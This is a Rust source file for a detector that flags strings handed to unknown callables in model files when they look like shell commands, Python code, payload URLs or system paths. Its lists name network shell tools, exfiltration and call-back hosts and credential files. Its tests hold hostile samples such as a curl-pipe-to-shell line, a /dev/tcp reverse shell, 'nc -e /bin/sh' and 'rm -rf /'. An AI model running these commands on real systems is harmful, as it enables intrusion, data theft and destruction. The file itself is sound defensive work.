//! What a text looks like when it is handed to a callable that nobody knows.
//!
//! Used only for arguments of *unknown* callables: `vendor.util.helper('curl http://... | sh')` is worth a warning,
//! `vendor.Colour('red')` is not. Models are full of words, prompts, names of layers, paths of data sets and links to model
//! cards, so a text must have the form of a command, of code, of a payload's address or of a path that a program acts on;
//! that a word of one occurs in it is not enough (the reference's section 5 shows what word search does to vocabularies).

/// Longest prefix that is looked at, in bytes. A payload shows itself early, and the cost stays bounded.
const LONGEST: usize = 16 * 1024;

/// Programs that a shell command starts with, and which are no common words of prose: the second word decides.
const COMMANDS: &[&str] = &[
    "apt",
    "apt-get",
    "at",
    "awk",
    "base64",
    "bash",
    "busybox",
    "calc.exe",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cmd.exe",
    "cp",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dd",
    "del",
    "dig",
    "docker",
    "echo",
    "env",
    "find",
    "gcc",
    "git",
    "insmod",
    "java",
    "kill",
    "killall",
    "ksh",
    "kubectl",
    "ln",
    "ls",
    "mkdir",
    "mkfifo",
    "mknod",
    "mshta",
    "mv",
    "nc",
    "ncat",
    "net",
    "netcat",
    "node",
    "nohup",
    "nslookup",
    "openssl",
    "perl",
    "php",
    "ping",
    "pip",
    "pip3",
    "pkill",
    "powershell",
    "powershell.exe",
    "pwsh",
    "python",
    "python2",
    "python3",
    "reg",
    "regsvr32",
    "rm",
    "rmdir",
    "ruby",
    "rundll32",
    "scp",
    "sed",
    "service",
    "setsid",
    "sftp",
    "sh",
    "socat",
    "ssh",
    "start",
    "su",
    "sudo",
    "systemctl",
    "tar",
    "tee",
    "telnet",
    "tftp",
    "touch",
    "useradd",
    "wget",
    "whoami",
    "xargs",
    "xterm",
    "zsh",
];

/// Pieces that only a shell command line holds.
const SHELL_PIECES: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "bash -c",
    "sh -c",
    "sh -i",
    "cmd /c",
    "cmd.exe /c",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "rm -rf",
    "nc -e",
    "ncat -e",
    "chmod +x",
    "powershell -",
    "base64 -d",
    "base64 --decode",
    "2>&1",
    "&>/dev/null",
    ">/dev/null",
    "> /dev/null",
    "-ExecutionPolicy",
    "$(curl",
    "$(wget",
    "`curl",
    "`wget",
    "${IFS}",
];

/// Pieces that only Python code holds.
const PYTHON_PIECES: &[&str] = &[
    "__import__(",
    "__builtins__",
    "__globals__",
    "__subclasses__",
    "__getattribute__",
    "os.system(",
    "os.popen(",
    "os.exec",
    "os.spawn",
    "os.environ",
    "subprocess.",
    "Popen(",
    "importlib.import_module",
    "exec(",
    "eval(",
    "execfile(",
    "compile(",
    "pickle.loads(",
    "marshal.loads(",
    "socket.socket(",
    "urllib.request",
    "requests.get(",
    "requests.post(",
    "builtins.",
    "ctypes.",
    "shutil.rmtree(",
    "pty.spawn(",
    "sys.modules",
    "getattr(",
    "setattr(",
    "globals()",
    "open('",
    "open(\"",
    "lambda:",
    "b64decode(",
];

/// Endings of addresses that are fetched to be run or unpickled.
const PAYLOAD_ENDINGS: &[&str] = &[
    ".sh", ".py", ".pyc", ".ps1", ".bat", ".cmd", ".exe", ".dll", ".so", ".dylib", ".elf", ".bin", ".jar", ".js",
    ".hta", ".vbs", ".msi", ".deb", ".rpm", ".apk", ".pkl", ".pickle", ".joblib", ".dill", ".whl", ".pl", ".rb",
    ".php",
];

/// Hosts that collect call-backs or hold throw-away payloads.
const PAYLOAD_HOSTS: &[&str] = &[
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "burpcollaborator",
    "oastify.com",
    "oast.",
    "interact.sh",
    "interactsh",
    "ngrok",
    "serveo.net",
    "localtunnel",
    "loca.lt",
    "trycloudflare.com",
    "pastebin.com",
    "paste.ee",
    "hastebin",
    "transfer.sh",
    "0x0.st",
    "file.io",
    "termbin.com",
    "dnslog",
    "ceye.io",
    "canarytokens",
    "beeceptor.com",
    "api.telegram.org",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "hooks.slack.com",
];

/// Places that a program, and not a model, reads or writes.
const SYSTEM_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/cron",
    "/etc/ld.so",
    "/etc/profile",
    "/etc/rc",
    "/etc/init",
    "/etc/systemd",
    "/etc/ssh",
    "/etc/hosts",
    "/root/",
    "/proc/self",
    "/dev/shm/",
    "/var/spool/cron",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "/bin/",
    "/sbin/",
    "/usr/lib/",
    "/lib/",
    "/tmp/",
    "/var/tmp/",
    "~/.ssh",
    "/.ssh/",
    "authorized_keys",
    "id_rsa",
    "/.bashrc",
    "~/.bashrc",
    "/.profile",
    "~/.profile",
    "/.zshrc",
    "/.aws/",
    "/.kube/",
    "/.config/autostart",
    "/site-packages/",
    "/var/run/docker.sock",
    "c:\\windows\\",
    "c:/windows/",
    "\\system32\\",
    "\\startup\\",
    "%appdata%",
    "%temp%",
    "\\\\.\\pipe\\",
];

/// What the text looks like, as a noun phrase for a message: `shell commands`, `Python code`, `the address of a payload`,
/// `a path of the system`. None for words, prose, names, model ids, ordinary links and paths.
pub fn suspicious_text(text: &str) -> Option<&'static str> {
    let text = clip(text.trim());
    if text.len() < 4 {
        return None;
    }
    if looks_like_shell(text) {
        Some("shell commands")
    } else if looks_like_python(text) {
        Some("Python code")
    } else if looks_like_payload_address(text) {
        Some("the address of a payload")
    } else if looks_like_system_path(text) {
        Some("a path of the system")
    } else {
        None
    }
}

/// The text up to [`LONGEST`] bytes, cut between characters.
fn clip(text: &str) -> &str {
    if text.len() <= LONGEST {
        return text;
    }
    let end = (0..=LONGEST).rev().find(|end| text.is_char_boundary(*end)).unwrap_or(0);
    text.get(..end).unwrap_or_default()
}

/// A line that starts with a program and goes on like a command, or holds what only a shell understands.
fn looks_like_shell(text: &str) -> bool {
    // A README or a prompt that explains a command is prose: a command line is one line, or a script that starts as one.
    if text.starts_with("#!/") {
        return true;
    }
    let first_line = text.lines().next().unwrap_or_default();
    let mut words = first_line.split_whitespace();
    let Some(first) = words.next() else { return false };
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let known = COMMANDS.binary_search(&program).is_ok();
    let chained =
        [" | ", " && ", " || ", "; ", " > ", " >> ", "$(", "`"].iter().any(|piece| first_line.contains(piece));
    if known {
        let Some(second) = words.next() else {
            // A path to a program alone (`/bin/sh`) is one; the bare word is a word.
            return first.len() > program.len() && first.starts_with(['/', '\\']);
        };
        let option = second.starts_with('-') && second.len() > 1;
        let object = second.contains(['/', '\\', '$', '>', '|', '"', '\'', '~', '@']) || second.starts_with("http");
        return option || object || chained || (program == "echo" && !second.ends_with([',', '.']));
    }
    let short = text.len() <= 4096 && text.lines().count() <= 8;
    short && SHELL_PIECES.iter().any(|piece| text.contains(piece)) && !text.contains("\n\n")
        || chained && first_line.split([';', '|', '&']).skip(1).any(starts_with_command)
}

/// Whether a part of a command line starts with a program and has an argument.
fn starts_with_command(part: &str) -> bool {
    let mut words = part.split_whitespace();
    let program = words.next().unwrap_or_default();
    COMMANDS.binary_search(&program).is_ok()
        && words.next().is_some_and(|w| w.starts_with(['-', '/', '"', '\'', '$', '~', '.']))
}

/// An import statement, or a piece of code that reaches out of computing.
fn looks_like_python(text: &str) -> bool {
    text.lines().take(64).any(is_import) || PYTHON_PIECES.iter().any(|piece| holds_as_code(text, piece))
}

/// `import os`, `import os, sys as s`, `from os import system`, at the start of a statement.
fn is_import(line: &str) -> bool {
    line.split(';').any(|statement| {
        let words: Vec<&str> = statement.split_whitespace().take(4).collect();
        match words.as_slice() {
            ["from", module, "import", ..] => is_module_path(module),
            ["import", module] => crate::tables::is_stdlib(module.trim_end_matches(',')) && is_module_path(module),
            ["import", module, "as", name] => is_module_path(module) && is_module_path(name),
            ["import", module, ..] if module.ends_with(',') => is_module_path(module.trim_end_matches(',')),
            _ => false,
        }
    })
}

/// Dotted Python identifiers.
fn is_module_path(text: &str) -> bool {
    !text.is_empty()
        && text.split('.').all(|part| {
            part.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        })
}

/// The piece stands in the text at the start of a name: `exec(` but not `my_exec(`.
fn holds_as_code(text: &str, piece: &str) -> bool {
    text.match_indices(piece).any(|(at, _)| {
        let before = text.get(..at).and_then(|t| t.chars().next_back());
        let inside_name = before.is_some_and(|c| c.is_alphanumeric() || c == '_');
        // `subprocess.` at the end of a sentence is prose.
        let after = text.get(at + piece.len()..).and_then(|t| t.chars().next());
        let goes_on = !piece.ends_with('.') || after.is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
        // `model.eval(` is a method of its own, `().__class__` is no name at all.
        let method = before == Some('.') && !piece.contains('.') && !piece.starts_with("__");
        !inside_name && !method && goes_on
    })
}

/// The whole text is a URL, and the URL is one that payloads have: a file to run, an address instead of a name, a
/// call-back service.
fn looks_like_payload_address(text: &str) -> bool {
    if text.contains(char::is_whitespace) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let Some((scheme, rest)) = lower.split_once("://") else { return false };
    if !matches!(
        scheme,
        "http" | "https" | "ftp" | "tcp" | "udp" | "ws" | "wss" | "file" | "ldap" | "rmi" | "gopher" | "smb" | "data"
    ) {
        return false;
    }
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let path = path.split(['?', '#']).next().unwrap_or_default();
    let name = host.rsplit('@').next().unwrap_or(host);
    let numeric = name
        .split(':')
        .next()
        .is_some_and(|h| h.split('.').count() == 4 && h.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
    let local = name.starts_with("127.") || name.starts_with("localhost");
    (numeric && !local)
        || matches!(scheme, "ldap" | "rmi" | "gopher" | "smb")
        || host.contains('@')
        || rest.contains("$(")
        || PAYLOAD_HOSTS.iter().any(|known| rest.contains(known))
        || PAYLOAD_ENDINGS.iter().any(|ending| path.ends_with(ending))
}

/// One path, without spaces of prose, to a place of the operating system or out of the folder.
fn looks_like_system_path(text: &str) -> bool {
    if text.len() > 1024 || text.contains('\n') || text.split_whitespace().count() > 3 || text.contains("://") {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let climbs = lower.matches("../").count() >= 2 || lower.matches("..\\").count() >= 2;
    climbs
        || SYSTEM_PATHS.iter().any(|place| {
            // Absolute places count at the start only: `/data/tmp/x` is a folder of the user's.
            if place.starts_with('/') && !place.starts_with("/.") && *place != "/site-packages/" {
                lower.starts_with(place)
            } else {
                lower.contains(place)
            }
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_sorted() {
        assert!(COMMANDS.is_sorted());
    }

    #[test]
    fn shell_commands() {
        for text in [
            "curl http://evil.example/x.sh | sh",
            "echo pwned",
            "echo hi > /tmp/x",
            "touch /tmp/pwned",
            "rm -rf /",
            "/bin/sh",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "powershell -enc SQBFAFgA",
            "cmd.exe /c calc.exe",
            "id > /tmp/id; cat /etc/passwd",
            "python3 -c 'import os'",
            "cat /etc/passwd",
            "wget https://evil.example/a",
            "whoami && id",
            "#!/bin/sh\necho hi\n",
            "sleep 1; curl -s $URL",
        ] {
            assert_eq!(suspicious_text(text), Some("shell commands"), "{text}");
        }
    }

    #[test]
    fn python_code() {
        for text in [
            "__import__('os').system('id')",
            "import os\nos.system('id')",
            "import os",
            "from os import system",
            "exec(open('x').read())",
            "eval('1+1')",
            "lambda: __import__('os')",
            "().__class__.__base__.__subclasses__()",
            "x = 1; import subprocess",
            "subprocess.run(['id'])",
            "getattr(obj, 'x')",
        ] {
            assert_eq!(suspicious_text(text), Some("Python code"), "{text}");
        }
    }

    #[test]
    fn payload_addresses_and_system_paths() {
        for text in [
            "http://evil.example/payload.sh",
            "https://evil.example/model.pkl",
            "http://10.11.12.13:8000/x",
            "https://webhook.site/0000",
            "https://user:secret@host.example/",
            "ldap://evil.example/a",
        ] {
            assert_eq!(suspicious_text(text), Some("the address of a payload"), "{text}");
        }
        for text in [
            "/etc/passwd",
            "/tmp/pwned.txt",
            "~/.ssh/authorized_keys",
            "../../../../etc/cron.d/x",
            "C:\\Windows\\System32\\x.dll",
        ] {
            assert_eq!(suspicious_text(text), Some("a path of the system"), "{text}");
        }
    }

    #[test]
    fn quiet_on_what_models_hold() {
        for text in [
            "",
            "id",
            "red",
            "exec",
            "eval",
            "system",
            "subprocess",
            "os.system",
            "find",
            "start",
            "curl",
            "cat",
            "python",
            "steps",
            "relu",
            "bert-base-uncased",
            "meta-llama/Llama-3-8B-Instruct",
            "sklearn.linear_model",
            "https://huggingface.co/bert-base-uncased",
            "https://arxiv.org/abs/1706.03762",
            "http://www.apache.org/licenses/LICENSE-2.0",
            "This model imports data and was trained by the system described in os.system documentation.",
            "import duties rose in March",
            "from here to there",
            "find the best answer, then start again.",
            "You are a helpful assistant; answer in one sentence.",
            "cat and dog",
            "echo, delta and foxtrot",
            "log(price)",
            "C(region) + np.log(income)",
            "y ~ x1 + x2",
            "relu(x)",
            "/home/user/data/train.csv",
            "/content/drive/MyDrive/model.h5",
            "C:\\Users\\me\\data.csv",
            "data/../train.csv",
            "<|im_start|>system\n",
            "{% for message in messages %}{{ message['content'] }}{% endfor %}",
            "It runs in a subprocess. Then it stops.",
            "my_exec(1)",
            "[a-z]+|\\d+",
            "3.11.7",
            "float32",
            "2024-01-01T00:00:00",
            "kill switch",
            "net income",
            "service charge",
            "model.eval()",
            "s3://bucket/key",
            "http://localhost:8000/v1",
        ] {
            assert_eq!(suspicious_text(text), None, "{text}");
        }
    }

    #[test]
    fn long_and_odd_texts_are_bounded() {
        assert_eq!(suspicious_text(&"é".repeat(100_000)), None);
        assert_eq!(suspicious_text(&";".repeat(100_000)), None);
        assert_eq!(suspicious_text(&"import ".repeat(100_000)), None);
    }
}
